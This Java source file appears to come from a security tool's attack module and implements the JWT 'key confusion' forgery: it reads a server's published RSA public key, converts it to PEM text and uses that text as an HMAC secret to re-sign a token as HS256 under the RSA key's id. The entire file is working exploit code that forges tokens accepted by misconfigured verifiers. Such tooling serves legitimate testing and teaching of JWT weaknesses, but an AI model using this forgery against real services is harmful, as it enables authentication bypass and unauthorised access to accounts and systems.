package dev.gatehouse.desktop.attack.forge;

import com.fasterxml.jackson.databind.JsonNode;
import dev.gatehouse.desktop.attack.SharedSecret;
import dev.gatehouse.desktop.credential.CompactToken;
import dev.gatehouse.desktop.credential.CredentialException;
import dev.gatehouse.server.jose.PublicKeyText;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.spec.RSAPublicKeySpec;
import java.util.Base64;

/** Signs by HMAC, with the text of the server's public RSA key as the secret. */
public final class KeyConfusion implements Forgery {
  @Override
  public String title() {
    return "Key confusion";
  }

  @Override
  public String does() {
    return "Says HS256, and signs with the text of the server’s public RSA key as the secret.";
  }

  @Override
  public String attack() {
    return "jwt-key-confusion";
  }

  @Override
  public boolean needsKeys() {
    return true;
  }

  @Override
  public CompactToken forge(CompactToken token, Ingredients with) throws CredentialException {
    return new SharedSecret(pem(with).getBytes(StandardCharsets.US_ASCII))
        .signAs(rsaKey(with.keys()).path("kid").asText(), token);
  }

  /** The key as PEM, the text form in which programs keep public keys (RFC 7468 §13). */
  public String pem(Ingredients with) throws CredentialException {
    JsonNode key = rsaKey(with.keys());
    try {
      RSAPublicKeySpec numbers = new RSAPublicKeySpec(number(key, "n"), number(key, "e"));
      return PublicKeyText.pem(KeyFactory.getInstance("RSA").generatePublic(numbers));
    } catch (GeneralSecurityException | IllegalArgumentException unusable) {
      throw new CredentialException("The server's RSA key cannot be read.");
    }
  }

  private static JsonNode rsaKey(JsonNode keys) throws CredentialException {
    return PublishedKeys.find(keys, "kty", "RSA", "RSA key");
  }

  private static BigInteger number(JsonNode key, String name) {
    return new BigInteger(1, Base64.getUrlDecoder().decode(key.path(name).asText()));
  }
}
